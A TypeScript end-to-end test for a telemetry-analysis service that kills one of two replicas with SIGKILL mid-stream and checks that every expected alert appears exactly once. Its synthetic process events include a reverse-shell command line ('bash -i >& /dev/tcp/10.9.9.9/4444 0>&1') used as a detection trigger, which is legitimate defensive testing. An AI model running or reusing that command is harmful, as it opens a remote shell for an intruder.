// kill -9 mid-stream, end to end: two intelligence replicas (apps/intelligence as built, child
// processes, partitioned by node) consume signed telemetry from a real nats-server while sentinels
// publish; one replica is killed with SIGKILL in the middle and started again. Every batch raises
// exactly one alert (a reverse shell in a pod of its own), so the ALERTS stream must end with every
// expected alert (no event skipped) and each exactly once (no alert duplicated).
import { spawn, type ChildProcess } from 'node:child_process';
import { existsSync } from 'node:fs';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { connectBus, provision, subjects, type Bus } from '@omega/bus';
import { Alert } from '@omega/proto';
import { createLogger } from '@omega/runtime';
import { withNats } from '@omega/testkit';
import { processLaunch } from './testing/spec-events';
import { SpecSentinel } from './testing/spec-sentinel';
import { partitionOfNode, telemetryDurable } from './telemetry-pipeline';

const MAIN = join(__dirname, '..', 'dist', 'main.js');
const NODES = ['node-a', 'node-b', 'node-c', 'node-d'];
const BATCHES_PER_NODE = 60;
const EVENTS_PER_BATCH = 40;

const nats = withNats({ jetstream: true });
let bus: Bus;
const children: ChildProcess[] = [];

beforeAll(async () => {
  if (!existsSync(MAIN)) {
    throw new Error(`intelligence is not built (${MAIN}): run \`npx tsc -b tsconfig.build.json\``);
  }
  bus = await connectBus({
    servers: nats.url,
    name: 'crash-spec',
    logger: createLogger({ service: 'spec', level: 'silent' }),
  });
  await provision(bus, {
    streams: ['TELEMETRY', 'ALERTS', 'DECEPTION', 'DLQ'],
    kv: ['omega_identities', 'omega_policy'],
  });
});

nats.beforeStop(async () => {
  for (const child of children) if (child.exitCode === null) child.kill('SIGKILL');
  await bus.drain();
});

function freePort(): Promise<number> {
  return new Promise((resolve, reject) => {
    const server = createServer();
    server.once('error', reject);
    server.listen(0, '127.0.0.1', () => {
      const { port } = server.address() as { port: number };
      server.close(() => resolve(port));
    });
  });
}

interface Replica {
  child: ChildProcess;
  metricsPort: number;
  output: string[];
}

async function startReplica(partition: number): Promise<Replica> {
  const metricsPort = await freePort();
  const output: string[] = [];
  const child = spawn(process.execPath, [MAIN], {
    env: {
      PATH: process.env['PATH'] ?? '',
      HOME: process.env['HOME'] ?? '',
      OMEGA_NATS_SERVERS: nats.url,
      OMEGA_GRPC_HOST: '127.0.0.1',
      OMEGA_GRPC_PORT: String(await freePort()),
      OMEGA_HTTP_HOST: '127.0.0.1',
      OMEGA_HTTP_PORT: String(metricsPort),
      OMEGA_LOG_LEVEL: 'warn',
      OMEGA_INTELLIGENCE_AUDIT_ALERTS: 'false',
      OMEGA_INTELLIGENCE_PARTITIONS: '2',
      OMEGA_INTELLIGENCE_PARTITION: String(partition),
    },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  children.push(child);
  child.stdout!.on('data', (d: Buffer) => output.push(d.toString()));
  child.stderr!.on('data', (d: Buffer) => output.push(d.toString()));
  // Ready when its durable consumer exists and its metrics answer.
  for (const deadline = Date.now() + 30_000; ;) {
    if (child.exitCode !== null)
      throw new Error(`replica ${partition} exited:\n${output.join('')}`);
    const ok = await fetch(`http://127.0.0.1:${metricsPort}/metrics`)
      .then((r) => r.ok)
      .catch(() => false);
    if (ok) return { child, metricsPort, output };
    if (Date.now() > deadline)
      throw new Error(`replica ${partition} not ready:\n${output.join('')}`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

async function eventsCounted(replica: Replica): Promise<number> {
  const text = await (await fetch(`http://127.0.0.1:${replica.metricsPort}/metrics`)).text();
  return [...text.matchAll(/^omega_intelligence_events_total\{kind="[a-z]+"\} (\d+)$/gm)].reduce(
    (sum, m) => sum + Number(m[1]),
    0,
  );
}

async function alertsOnStream(): Promise<Alert[]> {
  const info = await bus.jsm.streams.info('ALERTS');
  const alerts: Alert[] = [];
  for (let seq = info.state.first_seq; seq <= info.state.last_seq && seq > 0; seq++) {
    const msg = await bus.jsm.streams.getMessage('ALERTS', { seq }).catch(() => null);
    if (msg) alerts.push(Alert.decode(msg.data));
  }
  return alerts;
}

it('a replica killed with SIGKILL mid-stream skips no event and duplicates no alert after restart', async () => {
  const sentinels = await Promise.all(NODES.map((node) => SpecSentinel.enroll(bus, node)));
  const replicas = [await startReplica(0), await startReplica(1)];
  const ownerOf = (node: string) => partitionOfNode(node, 2);
  // The split must exercise both replicas, with the killed one owning something.
  expect(new Set(NODES.map(ownerOf))).toEqual(new Set([0, 1]));

  const expected = new Set<string>();
  const publishing = (async () => {
    for (let b = 0; b < BATCHES_PER_NODE; b++) {
      await Promise.all(
        sentinels.map((sentinel) => {
          const pod = `${sentinel.node}-pod-${b}`;
          expected.add(`shop/${pod}`);
          const events = Array.from({ length: EVENTS_PER_BATCH }, (_, i) =>
            processLaunch(
              {
                'omega.pod': pod,
                'omega.node': sentinel.node,
                Image: i === 0 ? '/bin/bash' : '/usr/bin/node',
                CommandLine: i === 0 ? 'bash -i >& /dev/tcp/10.9.9.9/4444 0>&1' : 'node app.js',
                ParentImage: '/bin/bash',
              },
              { id: `${pod}-e${i}`, node: sentinel.node },
            ),
          );
          return sentinel.publish('process', events);
        }),
      );
      await new Promise((r) => setTimeout(r, 5));
    }
  })();

  // Kill replica 0 once it is well into the stream, while sentinels are still publishing.
  const victim = telemetryDurable({ index: 0, count: 2 });
  for (const deadline = Date.now() + 30_000; ;) {
    const info = await bus.jsm.consumers.info('TELEMETRY', victim).catch(() => null);
    if (info && info.ack_floor.stream_seq > 40) break;
    if (Date.now() > deadline) throw new Error('replica 0 made no progress');
    await new Promise((r) => setTimeout(r, 20));
  }
  replicas[0]!.child.kill('SIGKILL');
  await new Promise((resolve) => replicas[0]!.child.once('exit', resolve));
  const killedAt = (await bus.jsm.consumers.info('TELEMETRY', victim)).ack_floor.stream_seq;
  replicas[0] = await startReplica(0);
  await publishing;

  const total = NODES.length * BATCHES_PER_NODE;
  expect(killedAt).toBeLessThan((await bus.jsm.streams.info('TELEMETRY')).state.last_seq);
  for (const deadline = Date.now() + 60_000; ;) {
    const infos = await Promise.all(
      [0, 1].map((i) =>
        bus.jsm.consumers.info('TELEMETRY', telemetryDurable({ index: i, count: 2 })),
      ),
    );
    if (infos.every((i) => i.num_pending === 0 && i.num_ack_pending === 0)) break;
    if (Date.now() > deadline) throw new Error('replicas did not catch up');
    await new Promise((r) => setTimeout(r, 100));
  }

  const alerts = await alertsOnStream();
  const pods = alerts.map((a) => a.entities.find((e) => e.kind === 9)?.value ?? '');
  expect(new Set(alerts.map((a) => a.id)).size).toBe(alerts.length);
  expect(alerts).toHaveLength(total);
  expect(new Set(pods)).toEqual(expected);
  const dlq = await bus.jsm.streams.info('DLQ').catch(() => null);
  expect(dlq?.state.subjects?.[subjects.dlq('TELEMETRY', victim)] ?? 0).toBe(0);
  // Replica 1 never restarted: it counted exactly the events of the nodes it owns, no others.
  const ownedBy1 = NODES.filter((n) => ownerOf(n) === 1).length;
  expect(await eventsCounted(replicas[1]!)).toBe(ownedBy1 * BATCHES_PER_NODE * EVENTS_PER_BATCH);
  for (const replica of replicas) replica.child.kill('SIGTERM');
}, 120_000);
